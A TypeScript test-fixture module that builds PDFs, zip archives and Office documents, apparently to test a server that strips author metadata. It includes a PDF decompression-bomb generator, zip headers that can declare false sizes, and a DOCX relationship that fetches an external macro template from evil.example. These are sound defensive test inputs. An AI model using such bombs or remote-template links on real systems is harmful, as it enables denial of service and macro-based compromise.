/** Papers as people and attackers send them, written byte by byte: nothing of the server's own libraries is in them. */
import { deflateRawSync, deflateSync, crc32, inflateSync } from 'node:zlib'

export const AUTHOR = 'Wang Xiaoming 13800001234'

type PdfParts = { catalog?: string; page?: string; objects?: string[]; trailer?: string; raw?: Buffer }

/** A page with a word on it, and properties; `objects` begin at number 6. */
export function aPdf({ catalog = '', page = '', objects = [], trailer = '' }: PdfParts = {}): Buffer {
  const text = 'BT /F1 24 Tf 72 700 Td (Wages owed) Tj ET'
  return pdfOf(
    [
      `<< /Type /Catalog /Pages 2 0 R /Metadata 5 0 R ${catalog} >>`,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> ${page} >>`,
      streamOf('', Buffer.from(text)),
      streamOf('/Type /Metadata /Subtype /XML', Buffer.from(`<x:xmpmeta><dc:creator>${AUTHOR}</dc:creator></x:xmpmeta>`)),
      ...objects,
      `<< /Author (${AUTHOR}) /Producer (Maker) /Title (${AUTHOR}) >>`,
    ],
    trailer,
  )
}

export const streamOf = (dict: string, bytes: Buffer): string =>
  `<< ${dict} /Length ${bytes.length} >>\nstream\n${bytes.toString('latin1')}\nendstream`

/** The last object is the document's information. */
function pdfOf(objects: string[], trailer: string): Buffer {
  let text = '%PDF-1.7\n'
  const places = objects.map((object, index) => {
    const at = text.length
    text += `${index + 1} 0 obj\n${object}\nendobj\n`
    return at
  })
  const from = text.length
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('')}`
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R /Info ${objects.length} 0 R ${trailer} >>\nstartxref\n${from}\n%%EOF\n`
  return Buffer.from(text, 'latin1')
}

/** A PDF whose table says that its objects are packed into a stream that unpacks to `bytes` zeros. */
export const aPdfBomb = (bytes: number): Buffer => {
  const packed = deflateSync(Buffer.alloc(bytes, ' '), { level: 9 })
  return aPdf({ objects: [streamOf('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packed)] })
}

/** All that a PDF says, its packed parts unpacked: as anybody may read it who looks for a name. */
export function wordsIn(pdf: Buffer): string {
  const parts = [pdf.toString('latin1')]
  for (let at = pdf.indexOf('stream'); at >= 0; at = pdf.indexOf('stream', at + 6)) {
    const from = at + 6 + (pdf[at + 6] === 0x0d ? 2 : 1)
    try {
      parts.push(inflateSync(pdf.subarray(from)).toString('latin1'))
    } catch {
      // not a packed one
    }
  }
  return parts.join('\n')
}

type Parts = Record<string, string | Buffer>

/** A zip with these entries; `told`: the sizes it tells of, where it lies. */
export function aZip(parts: Parts, told: Record<string, number> = {}): Buffer {
  const [locals, directory]: [Buffer[], Buffer[]] = [[], []]
  let offset = 0
  for (const [name, content] of Object.entries(parts)) {
    const bytes = Buffer.from(content as string)
    const packed = deflateRawSync(bytes, { level: 9 })
    const head = Buffer.alloc(26)
    head.writeUInt16LE(20, 0)
    head.writeUInt16LE(8, 4)
    head.writeUInt32LE(crc32(bytes), 10)
    head.writeUInt32LE(packed.length, 14)
    head.writeUInt32LE(told[name] ?? bytes.length, 18)
    head.writeUInt16LE(Buffer.byteLength(name), 22)
    const local = Buffer.concat([Buffer.from('PK\x03\x04'), head, Buffer.from(name), packed])
    const tail = Buffer.alloc(14)
    tail.writeUInt32LE(offset, 10)
    directory.push(Buffer.concat([Buffer.from('PK\x01\x02\x14\x00', 'latin1'), head, tail, Buffer.from(name)]))
    locals.push(local)
    offset += local.length
  }
  const listing = Buffer.concat(directory)
  const end = Buffer.alloc(22)
  end.write('PK\x05\x06', 'latin1')
  end.writeUInt16LE(directory.length, 8)
  end.writeUInt16LE(directory.length, 10)
  end.writeUInt32LE(listing.length, 12)
  end.writeUInt32LE(offset, 16)
  return Buffer.concat([...locals, listing, end])
}

const types = (main: string): string =>
  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>` +
  `<Override PartName="/main.xml" ContentType="application/vnd.openxmlformats-officedocument.${main}+xml"/>` +
  `<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/></Types>`
const relation = (target: string, type = 'officeDocument', more = '') =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" ` +
  `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" ${more}/></Relationships>`
export const fetching = relation('http://evil.example/t.dotm', 'attachedTemplate', 'TargetMode="External"')

/** With properties, a tracked change and a note by its writer. */
export const aDocx = (more: Parts = {}, told: Record<string, number> = {}): Buffer =>
  aZip(
    {
      '[Content_Types].xml': types('wordprocessingml.document.main'),
      '_rels/.rels': relation('word/document.xml').replace('</Rel', '<Relationship Id="r2" Type="core" Target="docProps/core.xml"/></Rel'),
      'word/document.xml': `<w:document xmlns:w="w"><w:p w:rsidR="00AB12CD"><w:ins w:author="${AUTHOR}"><w:t>欠了三个月</w:t></w:ins></w:p></w:document>`,
      'word/comments.xml': `<w:comments xmlns:w="w"><w:comment w:initials='${AUTHOR}' w:author='${AUTHOR}'/></w:comments>`,
      'word/people.xml': `<w15:people><w15:person w15:author="${AUTHOR}"/></w15:people>`,
      'docProps/core.xml': `<cp:coreProperties><dc:creator>${AUTHOR}</dc:creator></cp:coreProperties>`,
      'docProps/app.xml': `<Properties><Company>${AUTHOR}</Company></Properties>`,
      'docProps/custom.xml': `<Properties>${AUTHOR}</Properties>`,
      ...more,
    },
    told,
  )

export const anXlsx = (more: Parts = {}): Buffer =>
  aZip({
    '[Content_Types].xml': types('spreadsheetml.sheet.main'),
    '_rels/.rels': relation('xl/workbook.xml'),
    'xl/workbook.xml': `<workbook><fileSharing userName="${AUTHOR}"/><x15ac:absPath url="C:\\Users\\${AUTHOR}"/><sheets/></workbook>`,
    'xl/comments1.xml': `<comments><authors><author>${AUTHOR}</author></authors></comments>`,
    'docProps/core.xml': `<cp:lastModifiedBy>${AUTHOR}</cp:lastModifiedBy>`,
    ...more,
  })

const OLE = Buffer.from('d0cf11e0a1b11ae1', 'hex')
export const anOldDoc = (): Buffer => Buffer.concat([OLE, Buffer.alloc(2048), Buffer.from('WordDocument', 'utf16le')])
export const aLockedDocx = (): Buffer => Buffer.concat([OLE, Buffer.alloc(2048), Buffer.from('EncryptedPackage', 'utf16le')])
